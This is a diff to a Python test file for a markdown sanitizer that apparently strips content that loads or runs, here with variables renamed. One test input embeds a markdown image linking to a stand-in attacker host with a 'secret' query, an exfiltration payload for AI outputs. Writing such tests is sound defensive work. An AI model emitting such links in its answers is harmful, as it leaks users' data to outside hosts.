@@ -12,7 +12,7 @@ from services.query.answering.safe_markdown import SafeMarkdown, safe
 
 
 @pytest.mark.parametrize(
-    ("text", "kept"),
+    ("text", "clean_text"),
     [
         (
             "Look ![a chart](https://evil.example/?q=secret) here.",
@@ -75,9 +75,9 @@ from services.query.answering.safe_markdown import SafeMarkdown, safe
         ("", ""),
     ],
 )
-def test_what_loads_or_runs_is_taken_out_and_the_rest_stays(text: str, kept: str) -> None:
-    assert safe(text) == kept
-    assert safe(kept) == kept
+def test_what_loads_or_runs_is_taken_out_and_the_rest_stays(text: str, clean_text: str) -> None:
+    assert safe(text) == clean_text
+    assert safe(clean_text) == clean_text
 
 
 PARTS = st.sampled_from(
@@ -119,13 +119,13 @@ PARTS = st.sampled_from(
 def test_in_pieces_the_text_is_the_same_as_in_one(parts: list[str], cuts: list[int]) -> None:
     text = "".join(parts)
     places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
-    filtered = SafeMarkdown()
-    pieces = [filtered.feed(text[a:b]) for a, b in pairwise(places)]
-    assert "".join(pieces) + filtered.end() == safe(text)
+    markdown = SafeMarkdown()
+    pieces = [markdown.feed(text[a:b]) for a, b in pairwise(places)]
+    assert "".join(pieces) + markdown.end() == safe(text)
 
 
 def test_plain_prose_is_not_held_back() -> None:
-    filtered = SafeMarkdown()
-    assert filtered.feed("Ada leads the office") == "Ada leads the office"
-    assert filtered.feed(" [1]") == " [1"
-    assert filtered.feed(". It") == "]. It"
+    markdown = SafeMarkdown()
+    assert markdown.feed("Ada leads the office") == "Ada leads the office"
+    assert markdown.feed(" [1]") == " [1"
+    assert markdown.feed(". It") == "]. It"
